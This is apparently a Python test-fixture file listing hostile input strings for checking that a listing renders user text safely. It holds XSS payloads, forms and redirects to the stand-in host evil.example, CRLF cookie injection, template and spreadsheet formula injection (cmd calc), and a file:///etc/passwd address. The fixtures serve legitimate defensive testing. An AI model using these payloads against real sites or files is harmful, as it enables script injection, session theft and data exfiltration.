"""Texts that try to become something else: script, markup, style, an address, a formula, a broken line."""

from __future__ import annotations

PAYLOADS = (
    "<script>alert(1)</script>", "</title><script>alert(1)</script>", '"><script>alert(1)</script>',
    "'><img src=x onerror=alert(1)>", "<img src=x onerror=alert(1)//", "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>", "<body onload=alert(1)>", "<iframe src=javascript:alert(1)>",
    "<object data=javascript:alert(1)>", "<embed src=//evil.example/x.swf>", "<base href=//evil.example/>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>", "<link rel=stylesheet href=//evil.example>",
    "<style>*{display:none}</style>", "<form action=//evil.example><input name=csrf>", "<button formaction=//evil.example>",
    "<math><mi xlink:href=javascript:alert(1)>", "<details open ontoggle=alert(1)>", "<marquee onstart=alert(1)>",
    "<video><source onerror=alert(1)></video>", "<input autofocus onfocus=alert(1)>", "<a href=javascript:alert(1)>x</a>",
    "<template><script>alert(1)</script></template>", "<noscript><p title='</noscript><script>alert(1)</script>'>",
    "<!--><script>alert(1)</script>-->", "<![CDATA[<script>alert(1)</script>]]>", "<?xml version='1.0'?><x/>",
    "</textarea><script>alert(1)</script>", "</style></script><script>alert(1)</script>", "</main></body></html>",
    "</table></div></section></article>", "<li><ol><ul>", "<dialog open>", "<div hx-get=/logout hx-trigger=load>",
    "<div hx-on:load=alert(1)>", "<div data-hit=x class=card>", '" hx-get="/undo" hx-trigger="load',
    "' onmouseover='alert(1)", '" autofocus onfocus="alert(1)', "` onclick=`alert(1)", 'x" style="position:fixed;inset:0',
    "{{ 7*7 }}", "{% raw %}", "${alert(1)}", "#{7*7}", "%0d%0aSet-Cookie:x=1", "line one\r\nSet-Cookie: x=1",
    "\u202egnp.exe", "\u2066isolate", "nul\ufffd and \u0085 and \u2028 lines", "&lt;script&gt;alert(1)&lt;/script&gt;", "&#60;script&#62;",
    '=HYPERLINK("//evil.example")', "+1+cmd|'/c calc'!A0", "-2+3+cmd|'/c calc'!A0", "@SUM(1+1)", "＝1+1",
    "\t=1+1", "A" * 3000, "W " * 900, "شكرا <b>", "𝕏" * 200, "🏴\u200d☠️" * 40,
)  # fmt: skip

ADDRESSES = (
    "javascript:alert(1)", "JaVaScRiPt:alert(1)", " javascript:alert(1)", "java\nscript:alert(1)",
    "data:text/html,<script>alert(1)</script>", "vbscript:msgbox(1)", "file:///etc/passwd", "//evil.example/x",
    'https://evil.example/"><script>alert(1)</script>', "https://evil.example/' onclick='alert(1)", "http://", "https://[::1",
)  # fmt: skip
"""Where a listing may say that it is."""
